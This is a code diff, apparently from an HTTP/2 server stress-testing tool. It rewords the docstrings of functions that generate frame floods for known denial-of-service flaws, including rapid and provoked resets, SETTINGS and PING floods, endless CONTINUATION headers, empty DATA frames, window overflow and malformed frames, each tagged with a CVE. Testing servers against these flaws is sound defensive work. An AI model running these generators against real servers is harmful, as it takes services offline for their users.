@@ -35,32 +35,32 @@ def rapid_resets() -> Iterator[bytes]:
 
 
 def resets_provoked() -> Iterator[bytes]:
-    """Make the server do the resetting (CVE-2025-8671)."""
+    """Provoke resets by the server (CVE-2025-8671)."""
     for stream in range(1, 2 * FRAMES, 2):
         yield open_stream(stream) + frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\0")
 
 
 def settings() -> Iterator[bytes]:
-    """Change a setting, each of which must be acknowledged (CVE-2019-9515)."""
+    """Change a setting repeatedly; the server must acknowledge each change (CVE-2019-9515)."""
     for number in range(FRAMES):
         yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535 + number % 2))
 
 
 def pings() -> Iterator[bytes]:
-    """Ask for answers without end (CVE-2019-9512)."""
+    """Send pings without end (CVE-2019-9512)."""
     for number in range(FRAMES):
         yield frame(PING, 0, 0, struct.pack(">Q", number))
 
 
 def endless_headers() -> Iterator[bytes]:
-    """Begin headers and go on with them for ever (CVE-2024-27316 and its kin)."""
+    """Send headers that never end (such as CVE-2024-27316)."""
     yield frame(HEADERS, 0, 1, request_headers())
     for number in range(FRAMES):
         yield frame(CONTINUATION, 0, 1, header(f"x-{number}", "y" * 200))
 
 
 def empty_data() -> Iterator[bytes]:
-    """Send nothing, very often (CVE-2019-9518)."""
+    """Send many empty frames (CVE-2019-9518)."""
     yield open_stream(1)
     for _ in range(FRAMES):
         yield frame(DATA, 0, 1)
@@ -73,13 +73,13 @@ def priorities() -> Iterator[bytes]:
 
 
 def windows() -> Iterator[bytes]:
-    """Open the window beyond what a number holds."""
+    """Enlarge the window beyond the largest number."""
     for _ in range(FRAMES):
         yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF))
 
 
 def unknown_frames() -> Iterator[bytes]:
-    """Send kinds of frames that do not exist, and lengths that are wrong."""
+    """Send unknown frame types and wrong lengths."""
     for number in range(FRAMES):
         yield frame(32 + number % 200, 255, number % 99, b"?" * (number % 50))
 
